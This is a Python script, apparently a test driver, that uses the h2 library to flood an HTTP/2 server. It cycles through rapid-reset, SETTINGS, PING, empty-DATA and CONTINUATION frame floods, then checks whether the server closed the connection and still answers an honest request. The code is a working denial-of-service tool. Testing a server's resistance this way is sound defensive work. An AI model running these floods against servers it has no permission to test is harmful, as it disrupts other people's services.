"""An HTTP/2 client of another make, the h2 package, that floods a server: `driver.py HOST PORT`.

Prints a line of JSON for each flood: its name, how it ended, how many of its pieces were sent, and the status that an honest
request on a new connection was answered with afterwards.
"""

import json
import select
import socket
import sys

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.errors import ErrorCodes
from h2.events import ConnectionTerminated, ResponseReceived, StreamEnded
from h2.settings import SettingCodes
from hyperframe.frame import ContinuationFrame

# Longer than anything takes, so that nothing hangs.
PATIENCE = 60
# No flood goes on for longer than so many pieces: more than 1 MiB of the shortest.
PIECES = 150_000
# How many are sent before what has come is read.
AT_ONCE = 100


class Client:
    def __init__(self, address):
        self.socket = socket.create_connection(address, PATIENCE)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.http = H2Connection(H2Configuration(client_side=True, header_encoding="utf-8"))
        self.http.initiate_connection()
        self.flush()

    def head(self, method, path):
        fields = [(":method", method), (":scheme", "http"), (":authority", "localhost"), (":path", path)]
        return fields + ([("content-type", "application/json")] if method == "POST" else [])

    def flush(self):
        self.socket.sendall(self.http.data_to_send())

    def events(self, patience):
        """What comes within so many seconds; None if nothing does. That the server has closed is an error."""
        if not select.select([self.socket], [], [], patience)[0]:
            return None
        received = self.socket.recv(1 << 16)
        if not received:
            raise ConnectionResetError
        return self.http.receive_data(received)

    def status(self, path):
        """Of the answer to an honest request, once all of it is there."""
        stream = self.http.get_next_available_stream_id()
        self.http.send_headers(stream, self.head("GET", path), end_stream=True)
        self.flush()
        status = None
        while (events := self.events(PATIENCE)) is not None:
            for event in events:
                if isinstance(event, ResponseReceived):
                    status = int(dict(event.headers)[":status"])
                if isinstance(event, StreamEnded):
                    return status
            self.flush()
        raise TimeoutError("no answer")


def rapid_reset(client):
    stream = client.http.get_next_available_stream_id()
    client.http.send_headers(stream, client.head("GET", "/products"), end_stream=True)
    client.http.reset_stream(stream, ErrorCodes.CANCEL)


def settings(client):
    client.http.update_settings({SettingCodes.INITIAL_WINDOW_SIZE: 65_535})


def ping(client):
    client.http.ping(b"floods!!")


def empty_data(client):
    if client.http.highest_outbound_stream_id == 0:
        client.http.send_headers(1, client.head("POST", "/auth/login"))
    client.http.send_data(1, b"")


def continuation(client):
    """The package sends no header block without an end: its frames are written by hyperframe alone."""
    if client.http.highest_outbound_stream_id == 0:
        client.http.send_headers(1, client.head("GET", "/products"), end_stream=True)
        head = bytearray(client.http.data_to_send())
        # The block goes on: without END_HEADERS.
        head[4] &= ~0x4
        client.socket.sendall(head)
    client.socket.sendall(ContinuationFrame(1, b"").serialize() * AT_ONCE)


def flood(address, piece):
    """Sends pieces until the server has had enough, reading all that comes meanwhile. How that ended, and how many were sent."""
    client, sent = Client(address), 0
    try:
        while sent < PIECES:
            for _ in range(AT_ONCE):
                piece(client)
            sent += AT_ONCE
            client.flush()
            if (reason := goaway(client, 0)) is not None:
                return reason, sent
    except ConnectionError:
        # What the server had to say may still be there to read.
        pass
    try:
        return goaway(client, 1) or "open", sent
    except ConnectionError:
        return "closed", sent


def goaway(client, patience):
    while (events := client.events(patience)) is not None:
        for event in events:
            if isinstance(event, ConnectionTerminated):
                return f"GOAWAY {int(event.error_code)}"
        client.flush()
    return None


def main():
    address = (sys.argv[1], int(sys.argv[2]))
    for piece in (rapid_reset, settings, ping, empty_data, continuation):
        end, sent = flood(address, piece)
        status = Client(address).status("/products")
        print(json.dumps({"flood": piece.__name__, "end": end, "sent": sent, "status": status}), flush=True)


if __name__ == "__main__":
    main()
